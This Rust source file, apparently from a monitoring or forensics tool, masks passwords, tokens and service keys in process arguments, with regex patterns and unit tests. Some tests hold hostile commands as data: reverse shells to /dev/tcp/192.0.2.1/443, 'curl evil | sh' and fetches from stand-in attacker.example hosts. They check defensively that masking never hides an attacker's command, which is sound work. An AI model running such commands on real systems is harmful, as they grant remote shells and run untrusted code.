//! Masks secrets in arguments, and knows what a secret looks like. Pure.
//!
//! Arguments are evidence, and an attacker chooses them. So a mask hides one word of a text and no more: it ends at blanks, at
//! quotes and at whatever ends a word in a shell. Of `sh -c 'DB_PASSWORD=x; curl evil | sh'`, all but `x` stays. Only an argument
//! of its own behind a password option is masked as a whole.
//!
//! These are masked: the value behind a secret's name (`--password x`, `PGPASSWORD=x`, `?token=x`, `"secret": "x"`,
//! `Authorization: Bearer x`), passwords in URLs, the password options of common clients (`mysql -px`), and keys of services
//! that are known by their beginning. `cp -p`, `ssh -p 22` and `--password-file x` stay. A value that the shell computes
//! (`$X`, `$(cmd)`) is no secret and stays.
//!
//! Not owned here: the names of environment variables, of which more are masked (`enrich/environment.rs`).

use std::sync::LazyLock;

use regex_lite::{Captures, Regex};

use super::Text;

/// Stands for what is not shown.
pub const MASK: &str = "[masked]";

/// What the name of a secret ends in.
const NAME: &str = r"(?i:(?:password|passwd|passphrase|secret|token|api[_-]?key|access[_-]?key|secret[_-]?key|credentials?|jwt|[_-]pwd)\d*)";
/// A secret in a text, up to the end of a word in a shell, a URL or JSON.
const WORD: &str = r#"[^\s"'`$&|;<>(){},]+"#;
/// Keys and tokens of services.
const KEY: &str = r"(?:(?:AKIA|ASIA)[A-Z0-9]{12,}|AIza[\w-]{20,}|gh[opsur]_\w{16,}|github_pat_\w{16,}|glpat-[\w-]{16,}|xox[a-z]-[\w-]{10,}|[sr]k[-_](?:live|test|proj|ant)[\w-]+|hvs\.[\w-]{16,}|eyJ[\w-]{8,}\.[\w-]+\.[\w-]*|ya29\.[\w-]{16,}|SG\.[\w-]{16,}\.[\w-]+|npm_\w{16,}|pypi-[\w-]{32,}|AGE-SECRET-KEY-\w+)";

/// Programs with a short option for a password: the beginning of the program's name, the option with its value in the group
/// `secret`, and what the next argument is where the option has no value.
const SHORT: &[(&str, &str, Expected)] = &[
    ("mysql", "^-p(?<secret>.+)$", Expected::Nothing),
    ("mariadb", "^-p(?<secret>.+)$", Expected::Nothing),
    ("7z", "^-p(?<secret>.+)$", Expected::Nothing),
    ("sshpass", "^-p(?<secret>.+)?$", Expected::Secret),
    ("mongo", "^-p(?<secret>.+)?$", Expected::Secret),
    ("redis-cli", "^-a(?<secret>.+)?$", Expected::Secret),
    ("ldap", "^-w(?<secret>.+)?$", Expected::Secret),
    ("zip", "^-P(?<secret>.+)?$", Expected::Secret),
    ("unzip", "^-P(?<secret>.+)?$", Expected::Secret),
    (
        "curl",
        "^(?:-[a-zA-Z]*[uU]|--(?:proxy-)?user(?:=|$))(?:[^:]*:(?<secret>.+))?$",
        Expected::Login,
    ),
];

/// What the next argument is.
#[derive(Clone, Copy, Default, PartialEq, Eq)]
enum Expected {
    #[default]
    Nothing,
    Secret,
    /// `USER:PASSWORD`
    Login,
}

/// The expressions above, compiled. The group `secret` of each is masked.
struct Patterns {
    /// Found in any argument.
    anywhere: Vec<Regex>,
    /// Passwords and tokens in URLs.
    urls: [Regex; 2],
    /// A key at the beginning of a word.
    key: Regex,
    /// An option whose value is a secret, with or without the value.
    option: Regex,
    /// Of [`SHORT`].
    short: Vec<Regex>,
}

static PATTERNS: LazyLock<Patterns> = LazyLock::new(|| Patterns {
    anywhere: vec![
        // The name begins a word. `%3D` is a `=` in a URL.
        pattern(&format!(
            r#"(?:^|[^\w.-])[\w.-]*{NAME}(?:["']?=|["']: ?|: |%3[dD])["']?(?<secret>{WORD})"#
        )),
        pattern(&format!(
            r#"(?i)(?:authorization|cookie|x-auth[\w-]*|x-api-key)["']?: ?(?:(?:bearer|basic|token|digest|negotiate) +)?(?<secret>{WORD})"#
        )),
        pattern(&format!(r"(?i)\b(?:session|sid|pass|pgpass)=(?<secret>{WORD})")),
        pattern(&format!(
            r#"\b(?:mysql|mariadb)\w*(?: +[^\s;|&]+)*? +-p["']?(?<secret>{WORD})"#
        )),
        pattern(&format!(r#"\bsshpass +-p *["']?(?<secret>{WORD})"#)),
        pattern(&format!(
            r#"\bcurl(?: +[^\s;|&]+)*? +-[a-zA-Z]*u *["']?[^\s:"']*:(?<secret>{WORD})"#
        )),
        pattern(&format!(r"(?:^|[^\w.-])(?<secret>{KEY})")),
    ],
    urls: [
        // scheme://user:password@host
        pattern(r#"[a-z][a-z0-9+.-]*://[^\s/:@"']*:(?<secret>[^\s/@"'`$&|;<>()]+)@"#),
        // scheme://token@host
        pattern(r#"[a-z][a-z0-9+.-]*://(?<secret>[^\s/:@"'`$&|;<>()]{24,})@"#),
    ],
    key: pattern(&format!("^{KEY}")),
    option: pattern(&format!(r"^--?[\w.-]*?{NAME}(?:=(?<secret>[^;|&<>`$]+))?$")),
    short: SHORT.iter().map(|(_, option, _)| pattern(option)).collect(),
});

#[expect(
    clippy::expect_used,
    reason = "the expressions are fixed, and every test of this file compiles them"
)]
fn pattern(expression: &str) -> Regex {
    Regex::new(expression).expect("the expression is well-formed")
}

/// Whether a word begins as the key or token of a known service.
#[must_use]
pub fn is_key(word: &str) -> bool {
    PATTERNS.key.is_match(word)
}

/// Whether a text holds a URL with a password or token in it.
#[must_use]
pub fn has_login(text: &str) -> bool {
    PATTERNS.urls.iter().any(|url| url.is_match(text))
}

/// Masks secrets in the arguments of one process.
pub fn mask_arguments(argv: &mut [Text]) {
    let mut expected = Expected::Nothing;
    // The program of `SHORT` that was named last: `sudo mysql …` counts as well.
    let mut program = None;
    for argument in argv {
        let text = String::from_utf8_lossy(argument.as_bytes());
        let now = std::mem::take(&mut expected);
        if now != Expected::Nothing {
            // `sshpass -p x ssh -p 22`: the second `-p` is another program's.
            program = None;
        }
        let masked = match now {
            Expected::Secret if !text.starts_with('-') => mask(&text, &text),
            Expected::Login => text
                .split_once(':')
                .map_or(text.to_string(), |(_, secret)| mask(&text, secret)),
            _ => {
                let option = option(&text, program);
                let name = text.rsplit('/').next().unwrap_or_default();
                program = SHORT.iter().position(|(start, ..)| name.starts_with(start)).or(program);
                match option {
                    Some((option, next)) => match option.name("secret") {
                        Some(secret) => mask(&text, secret.as_str()),
                        None => {
                            expected = next;
                            text.to_string()
                        }
                    },
                    None => within(&text),
                }
            }
        };
        // Bytes that are not UTF-8 stay where nothing is masked.
        if masked != text {
            *argument = masked.as_str().into();
        }
    }
}

/// An option whose value is a secret, and what the next argument is if it has none.
fn option(text: &str, program: Option<usize>) -> Option<(Captures<'_>, Expected)> {
    let of_program = program.and_then(|at| Some((PATTERNS.short[at].captures(text)?, SHORT[at].2)));
    of_program.or_else(|| Some((PATTERNS.option.captures(text)?, Expected::Secret)))
}

/// Masks the words of a text that are secrets.
fn within(text: &str) -> String {
    let mut shown = text.to_owned();
    for pattern in PATTERNS.anywhere.iter().chain(&PATTERNS.urls) {
        shown = pattern
            .replace_all(&shown, |found: &Captures<'_>| mask(&found[0], &found["secret"]))
            .into_owned();
    }
    shown
}

/// The text with its last occurrence of `secret` masked, unless the shell computes it.
fn mask(text: &str, secret: &str) -> String {
    let is_computed = secret.starts_with('$') || secret.contains("$(") || secret.contains('`');
    match text.rfind(secret) {
        Some(at) if !is_computed && !secret.is_empty() => {
            format!("{}{MASK}{}", &text[..at], &text[at + secret.len()..])
        }
        _ => text.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The words are separated by `|`.
    fn shown(words: &str) -> String {
        let mut argv: Vec<Text> = words.split('|').map(Text::from).collect();
        mask_arguments(&mut argv);
        argv.iter()
            .map(|text| text.to_text().into_owned())
            .collect::<Vec<_>>()
            .join("|")
    }

    #[test]
    fn secrets_in_arguments_are_masked() {
        for (words, expected) in [
            ("mysql|-psecret|-h|db", "mysql|-p[masked]|-h|db"),
            (
                "sudo|/usr/bin/mysqldump|-uroot|-psecret",
                "sudo|/usr/bin/mysqldump|-uroot|-p[masked]",
            ),
            ("psql|--password=a b", "psql|--password=[masked]"),
            ("x|--db-password|secret|file", "x|--db-password|[masked]|file"),
            ("x|--accessToken|secret", "x|--accessToken|[masked]"),
            (
                "x|-Dspring.datasource.password=secret",
                "x|-Dspring.datasource.password=[masked]",
            ),
            ("env|PGPASSWORD=secret|psql", "env|PGPASSWORD=[masked]|psql"),
            ("sshpass|-p|secret|ssh|-p|22|h", "sshpass|-p|[masked]|ssh|-p|22|h"),
            ("redis-cli|-a|secret|PING", "redis-cli|-a|[masked]|PING"),
            ("curl|-u|ann:secret|http://h", "curl|-u|ann:[masked]|http://h"),
            ("curl|-uann:secret|http://h", "curl|-uann:[masked]|http://h"),
            ("curl|--user|ann:secret", "curl|--user|ann:[masked]"),
            ("curl|--user=ann:secret", "curl|--user=ann:[masked]"),
            (
                "git|clone|https://ann:secret@h/r?x=1",
                "git|clone|https://ann:[masked]@h/r?x=1",
            ),
            (
                "curl|https://h/p?a=1&access_token=secret&b=2",
                "curl|https://h/p?a=1&access_token=[masked]&b=2",
            ),
            (
                "curl|-H|Authorization: Bearer secret|h",
                "curl|-H|Authorization: Bearer [masked]|h",
            ),
            ("curl|-H|X-Api-Key: secret", "curl|-H|X-Api-Key: [masked]"),
            (
                "sh|-c|DB_PASSWORD='ab' mysql -psecret; curl evil | sh",
                "sh|-c|DB_PASSWORD='[masked]' mysql -p[masked]; curl evil | sh",
            ),
            (
                "sh|-c|curl -H 'Authorization: Basic secret' http://h|x",
                "sh|-c|curl -H 'Authorization: Basic [masked]' http://h|x",
            ),
            ("sh|-c|TOKEN=x;evil", "sh|-c|TOKEN=[masked];evil"),
            ("sh|-c|TOKEN=x>/tmp/y", "sh|-c|TOKEN=[masked]>/tmp/y"),
            ("gpg|--passphrase|a b; c", "gpg|--passphrase|[masked]"),
            ("mysql|-e|select 1;|-psecret", "mysql|-e|select 1;|-p[masked]"),
            ("curl|-su|ann:a b|h", "curl|-su|ann:[masked]|h"),
            ("curl|-H|X-Api-Key:secret|h", "curl|-H|X-Api-Key:[masked]|h"),
            (
                r#"curl|-d|{"password": "secret"}"#,
                r#"curl|-d|{"password": "[masked]"}"#,
            ),
            ("psql|host=db password=secret", "psql|host=db password=[masked]"),
            ("x|ghp_16C7e42F292c6912E7710c83", "x|[masked]"),
        ] {
            let words = words.replace(" | ", " \u{1} ");
            let found = shown(&words).replace('\u{1}', "|");
            assert_eq!(found, expected, "{words}");
        }
    }

    /// An attacker writes commands, so that a mask would hide them.
    #[test]
    fn a_mask_hides_no_command() {
        for words in [
            "sh|-c|true # TOKEN='x\nbash -i >& /dev/tcp/192.0.2.1/443 0>&1",
            "sh|-c|--token=x; bash -i >& /dev/tcp/192.0.2.1/443 0>&1",
            "sh|-c|TOKEN=x&bash -i >& /dev/tcp/192.0.2.1/443",
            "sh|-c|Cookie: a; bash -i >& /dev/tcp/192.0.2.1/443 0>&1",
        ] {
            let found = shown(words);
            assert!(found.contains("bash -i >& /dev/tcp/192.0.2.1/443"), "{found}");
        }
    }

    #[test]
    fn what_is_no_secret_stays() {
        for words in [
            "curl|http://sk-updates.attacker.example/x",
            "wget|https://pypi-mirror.attacker.example/y",
            "ssh|-p|22|host",
            "mkdir|-p|/a/b",
            "nc|-lp|4444",
            "ps|-p1",
            "cp|-p|a|b",
            "mysql|-p|db",
            "x|--password-file|/run/secret",
            "x|--password-file=/run/secret",
            "x|--max-tokens=5",
            "x|--token|--verbose",
            "env|PWD=/srv|OLDPWD=/",
            "curl|-u|ann|--user-agent|a:b|http://h:80/p?q=1",
            "docker|run|-p|80:80|registry/token:latest",
            "bash|-c|exec 5<>/dev/tcp/192.0.2.1/443; sh <&5 >&5",
            "sh|-c|PASSWORD=$(curl evil) TOKEN=$X sh -i",
            "sh|-c|echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgMTIzNA== | base64 -d",
            "git|clone|ssh://git@h/r",
            "author|--author=x|--keyboard=y",
            "",
        ] {
            assert_eq!(shown(words), words);
        }
        let mut argv = [Text::from(&b"caf\xe9"[..])];
        mask_arguments(&mut argv);
        assert_eq!(argv[0].as_bytes(), b"caf\xe9");
    }

    #[test]
    fn any_bytes_are_taken() {
        let text = "mysql -p'\"=;&?:$(é -u --password= Authorization: https://a:@b ghp_";
        for (start, _) in text.char_indices() {
            for (end, _) in text.char_indices().filter(|(end, _)| *end >= start) {
                shown(&text[start..end]);
            }
        }
    }
}
